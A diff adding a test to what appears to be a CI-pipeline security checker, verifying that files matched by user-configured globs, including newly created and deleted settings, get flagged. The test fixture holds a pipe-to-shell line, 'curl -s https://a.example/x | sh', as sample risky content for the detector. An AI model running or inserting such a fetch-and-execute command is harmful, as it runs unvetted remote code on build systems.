@@ -148,6 +148,28 @@ for (const pulls of [true, false]) {
       await session.until(() => shown(session, uriOf(root, ci)) === 1);
     });
 
+    it("cover files of other names that settings give to a CI system, also those that are new", async () => {
+      const script = "job:\n  script:\n    - curl -s https://a.example/x | sh\n";
+      const root = folder({ ".git/HEAD": "", "ci/a.tpl": script, "mine/a.txt": script, "ci/other.txt": script });
+      const session = await startIn([root], () => ({ globs: { "gitlab-ci": ["mine/*.txt"] } }));
+      await session.until(() => shown(session, uriOf(root, "mine/a.txt")) === 1);
+      assert.equal(shown(session, uriOf(root, "ci/a.tpl")), undefined);
+
+      const settings = path.join(root, ".pipewarden.yml");
+      writeFileSync(settings, "globs: {gitlab-ci: ['ci/*.tpl', 'mine/*.txt']}\n");
+      session.fileChanged(uriOf(settings), FileChangeType.Created);
+      await session.until(() => shown(session, uriOf(root, "ci/a.tpl")) === 1);
+
+      writeFileSync(path.join(root, "ci/b.tpl"), script);
+      session.fileChanged(uriOf(root, "ci/b.tpl"), FileChangeType.Created);
+      await session.until(() => shown(session, uriOf(root, "ci/b.tpl")) === 1);
+
+      rmSync(settings);
+      session.fileChanged(uriOf(settings), FileChangeType.Deleted);
+      await session.until(() => shown(session, uriOf(root, "ci/a.tpl")) === 0);
+      assert.equal(shown(session, uriOf(root, "ci/other.txt")), undefined);
+    });
+
     it("watch every file, since any may be a script that a pipeline runs", async () => {
       const session = await startIn([folder()]);
       const isWatcher = ({ method }: { method: string }) => method === "workspace/didChangeWatchedFiles";
